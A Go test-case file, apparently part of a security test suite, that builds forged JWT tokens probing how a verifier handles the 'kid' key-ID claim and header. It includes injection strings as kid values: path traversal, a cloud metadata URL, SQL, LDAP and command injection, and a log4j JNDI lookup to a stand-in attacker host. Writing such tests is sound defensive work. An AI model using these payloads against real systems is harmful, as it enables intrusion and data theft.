package attack

import (
	"crypto/rsa"
	"strings"
)

const (
	kidSource      = "RFC 8725, section 3.10: kid reaches a look-up"
	kidClaimSource = "FastPix: the payload's kid names the signing key"
	kidMissing     = "kid_missing"
	kidUnknown     = "key_unknown"
)

// keyIDCases name signing keys that do not exist, that may not sign, or in the
// wrong place.
func keyIDCases() []Case {
	list := []tokenEntry{
		{name: "missing", source: kidClaimSource, want: kidMissing, attack: dropClaim("kid")},
		{name: "empty", source: kidClaimSource, want: kidMissing, attack: claim("kid", `""`)},
		{
			name: "other registered key", source: kidClaimSource, want: badSignature,
			attack:   claim("kid", quoted(OtherKeyID)),
			neighbor: edits(claim("kid", quoted(OtherKeyID)), byOther),
		},
		{
			name: "signed by the other registered key", source: kidClaimSource, want: badSignature, attack: byOther,
			neighbor: edits(claim("kid", quoted(OtherKeyID)), byOther),
		},
		{
			name: "revoked", source: "FastPix: deleting a key ends all its tokens", want: "key_revoked",
			attack:   edits(claim("kid", quoted(RevokedID)), byOther),
			neighbor: edits(claim("kid", quoted(OtherKeyID)), byOther),
		},
		{
			name: "of another workspace", source: "FastPix: keys are per workspace", want: "key_foreign",
			attack: byForeign, needsMock: true,
		},
		{
			name: "of another workspace, signed here", source: "FastPix: keys are per workspace", want: "key_foreign",
			attack: func(w *World, d *draft) { d.claims.set("kid", quoted(w.ForeignID)) }, needsMock: true,
		},
		{
			name: "signed in another workspace", source: "FastPix: keys are per workspace", want: badSignature,
			attack: func(w *World, d *draft) { d.sign = rs256(w.ForeignKey) }, needsMock: true,
		},
		{
			name: "with an escaped letter", source: "RFC 8259, section 7", want: accepted,
			attack: claim("kid", `"\u0032`+KeyID[1:]+`"`),
		},

		{
			name: "in the header only", source: kidClaimSource, want: kidMissing, lenient: accepted,
			attack:   edits(dropClaim("kid"), header("kid", quoted(KeyID))),
			neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "in the header only, unknown", source: kidClaimSource, want: kidMissing, lenient: kidUnknown,
			attack:   edits(dropClaim("kid"), header("kid", `"../../dev/null"`)),
			neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "in the header only, the attacker's signature", source: kidClaimSource, want: kidMissing,
			lenient:  badSignature,
			attack:   edits(dropClaim("kid"), header("kid", quoted(KeyID)), byIntruder),
			neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "empty in the payload, valid in the header", source: kidClaimSource, want: kidMissing,
			attack:   edits(claim("kid", `""`), header("kid", quoted(KeyID))),
			neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "null in the payload, valid in the header", source: kidClaimSource, want: kidMissing,
			attack:   edits(claim("kid", "null"), header("kid", quoted(KeyID))),
			neighbor: header("kid", quoted(KeyID)),
		},
		{name: "same in both", source: kidClaimSource, want: accepted, attack: header("kid", quoted(KeyID))},
		{
			name: "another registered key in the header", source: kidClaimSource, want: "kid_mismatch", lenient: accepted,
			attack: header("kid", quoted(OtherKeyID)), neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "unknown key in the header", source: kidClaimSource, want: "kid_mismatch", lenient: accepted,
			attack: header("kid", `"unknown"`), neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "empty in the header", source: kidClaimSource, want: "kid_mismatch", lenient: accepted,
			attack: header("kid", `""`), neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "in upper case in the header", source: kidClaimSource, want: "kid_mismatch", lenient: accepted,
			attack: header("kid", quoted(strings.ToUpper(KeyID))), neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "signed by the key in the header", source: kidClaimSource, want: "kid_mismatch", lenient: badSignature,
			attack:   edits(header("kid", quoted(OtherKeyID)), byOther),
			neighbor: edits(claim("kid", quoted(OtherKeyID)), header("kid", quoted(OtherKeyID)), byOther),
		},
		{
			name: "swapped between header and payload", source: kidClaimSource, want: "kid_mismatch",
			lenient:  badSignature,
			attack:   edits(claim("kid", quoted(OtherKeyID)), header("kid", quoted(KeyID))),
			neighbor: header("kid", quoted(KeyID)),
		},
		{
			name: "named KID", source: "RFC 7519, section 4: names are case-sensitive", want: kidMissing,
			attack: edits(dropClaim("kid"), claim("KID", quoted(KeyID))),
		},
		{
			name: "named keyId", source: kidClaimSource, want: kidMissing,
			attack: edits(dropClaim("kid"), claim("keyId", quoted(KeyID))),
		},
		{
			name: "nested in an object", source: kidClaimSource, want: kidMissing,
			attack: edits(dropClaim("kid"), claim("header", `{"kid":"`+KeyID+`"}`)),
		},
		{
			name: "beside KID of another key", source: "encoding/json matches names in any case", want: accepted,
			attack: claim("KID", quoted(OtherKeyID)),
		},
	}
	for _, value := range []string{
		"null", "true", "0", "26338", `["` + KeyID + `"]`, `{"kid":"` + KeyID + `"}`, "[]",
		"{}",
	} {
		list = append(list, tokenEntry{
			name: "value " + value, source: kidClaimSource, want: kidMissing,
			attack: claim("kid", value),
		})
	}
	for _, k := range []struct{ name, id string }{
		{"another UUID", "00000000-0000-4000-8000-000000000000"},
		{"the nil UUID", "00000000-0000-0000-0000-000000000000"},
		{"upper case", strings.ToUpper(KeyID)},
		{"without dashes", strings.ReplaceAll(KeyID, "-", "")},
		{"in braces", "{" + KeyID + "}"},
		{"as a URN", "urn:uuid:" + KeyID},
		{"its first half", KeyID[:18]},
		{"one character short", KeyID[:35]},
		{"one character long", KeyID + "0"},
		{"with a space", KeyID + " "},
		{"with a space before", " " + KeyID},
		{"with a line break", KeyID + `\n`},
		{"with a NUL", KeyID + `\u0000`},
		{"with a NUL and more", KeyID + `\u0000/../x`},
		{"with a zero-width space", KeyID + "\u200b"},
		{"with a full-width digit", "\uff12" + KeyID[1:]},
		{"percent-encoded", "%32" + KeyID[1:]},
		{"with a fragment", KeyID + "#" + OtherKeyID},
		{"two IDs", KeyID + "," + OtherKeyID},
		{"path /dev/null", "../../../../../../dev/null"},
		{"path of a public file", "/usr/share/common-licenses/GPL-3"},
		{"Windows path", `..\\..\\..\\windows\\win.ini`},
		{"path to the key", "keys/../" + KeyID},
		{"file URL", "file:///dev/null"},
		{"HTTP URL", "https://attacker.invalid/key.pem"},
		{"metadata service", "http://169.254.169.254/latest/meta-data/"},
		{"data URL", "data:text/plain;base64,AA=="},
		{"SQL union", "x' UNION SELECT 'secret"},
		{"SQL or", "' OR '1'='1"},
		{"SQL comment", KeyID + "'--"},
		{"NoSQL", "[$ne]"},
		{"LDAP filter", "*)(uid=*))(|(uid=*"},
		{"command", "x|/bin/sleep 10"},
		{"command substitution", "$(sleep 10)"},
		{"template", "{{7*7}}"},
		{"log4j", "${jndi:ldap://attacker.invalid/a}"},
		{"format string", "%s%s%s%n"},
		{"glob", "*"},
		{"regular expression", ".*"},
		{"__proto__", "__proto__"},
		{"constructor", "constructor"},
		{"4 KB", strings.Repeat("a", 4096)},
		{"the playback ID", PrivateID},
		{"script", "<script>alert(1)</script>"},
	} {
		list = append(list, tokenEntry{
			name: "look-up of " + k.name, source: kidSource, want: kidUnknown,
			attack: claim("kid", quoted(k.id)),
		})
	}
	for _, value := range []string{
		"null", "true", "0", "26338", "[]", "{}", `["` + KeyID + `"]`, `{"kid":"` + KeyID + `"}`,
	} {
		list = append(list, tokenEntry{
			name: "header value " + value, source: "RFC 7515, section 4.1.4: kid is a string", want: malformed,
			attack: header("kid", value), neighbor: header("kid", quoted(KeyID)),
		})
	}
	return tokenCases("kid", list)
}

var byOther = signedWith(func(w *World) *rsa.PrivateKey { return w.OtherKey })

// byForeign signs with the signing key in another workspace, and names it.
func byForeign(w *World, d *draft) {
	d.claims.set("kid", quoted(w.ForeignID))
	d.sign = rs256(w.ForeignKey)
}
